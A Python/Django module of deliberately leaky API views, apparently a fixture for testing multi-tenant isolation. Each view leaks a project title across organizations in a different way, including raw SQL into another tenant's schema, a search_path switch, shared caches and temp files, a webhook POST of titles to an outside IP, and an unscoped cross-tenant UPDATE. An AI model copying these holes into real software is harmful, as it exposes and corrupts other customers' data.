"""One route for each way in which data of one organization reaches another."""

import functools
import logging
import sys
import tempfile
import threading
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace

from django.core.cache import cache
from django.db import connection
from rest_framework import serializers
from rest_framework.response import Response

from platform_core.sdk.outbound import OutboundError, call
from platform_core.sdk.views import TenonAPIView, ViewClassPermission, operation

logger = logging.getLogger(__name__)
SCHEMAS = {}
WAITING = []


class TextSerializer(serializers.Serializer):
    text = serializers.CharField(help_text="What leaked.")


def title():
    with connection.cursor() as cursor:
        cursor.execute("SELECT title FROM projects_project ORDER BY id LIMIT 1")
        return cursor.fetchone()[0]


class Way(TenonAPIView):
    permission_required = ViewClassPermission(GET="leaky.ways.view")
    serializer_class = TextSerializer

    @operation(tag="leaky", summary="Leak", response=TextSerializer, example={"text": "x"})
    def get(self, request):
        return Response({"text": self.leak() or ""})

    def other(self):
        here = self.principal.organization
        SCHEMAS[here.slug] = here.schema
        return next((schema for slug, schema in SCHEMAS.items() if slug != here.slug), None)


class ClassAttribute(Way):
    last = ""

    def leak(self):
        shown, ClassAttribute.last = ClassAttribute.last, title()
        return shown


class Cache(Way):
    def leak(self):
        shown = cache.get("leaky:last")
        cache.set("leaky:last", title())
        return shown


class RawSql(Way):
    def leak(self):
        schema = self.other()
        if schema:
            with connection.cursor() as cursor:
                cursor.execute(f'SELECT title FROM "{schema}".projects_project ORDER BY id LIMIT 1')
                return cursor.fetchone()[0]
        return None


class SearchPath(Way):
    def leak(self):
        schema = self.other()
        if schema:
            with connection.cursor() as cursor:
                cursor.execute(f"SET search_path = {schema}")
                cursor.execute("SELECT title FROM projects_project ORDER BY id LIMIT 1")
                return cursor.fetchone()[0]
        return None


class FilePath(Way):
    def leak(self):
        path = Path(tempfile.gettempdir()) / "tenon-leaky.txt"
        shown = path.read_text() if path.exists() else ""
        path.write_text(title())
        return shown


class Log(Way):
    def leak(self):
        WAITING.append(title())
        logger.info("the one before was %s", WAITING[-2] if len(WAITING) > 1 else None)


class Webhook(Way):
    def leak(self):
        WAITING.append(title())
        with suppress(OutboundError):
            call(method="POST", url="http://1.1.1.1/hook", body=" ".join(WAITING).encode())


class Thread(Way):
    def leak(self):
        thread = threading.Thread(target=print, kwargs={"end": ""})
        thread.start()
        thread.join()


@functools.lru_cache(maxsize=8)
def remembered_title(number):
    return title()


class Memory(Way):
    def leak(self):
        return remembered_title(1)


class Metric(Way):
    def leak(self):
        """As a metric of prometheus_client would be, for whoever has it."""
        sample = SimpleNamespace(name="leaky", labels={"title": title()})
        registry = SimpleNamespace(collect=lambda: [SimpleNamespace(samples=[sample])])
        sys.modules["prometheus_client"] = SimpleNamespace(REGISTRY=registry)


class Write(Way):
    def leak(self):
        schema = self.other()
        if schema:
            with connection.cursor() as cursor:
                cursor.execute(f"UPDATE \"{schema}\".projects_project SET description = 'x'")
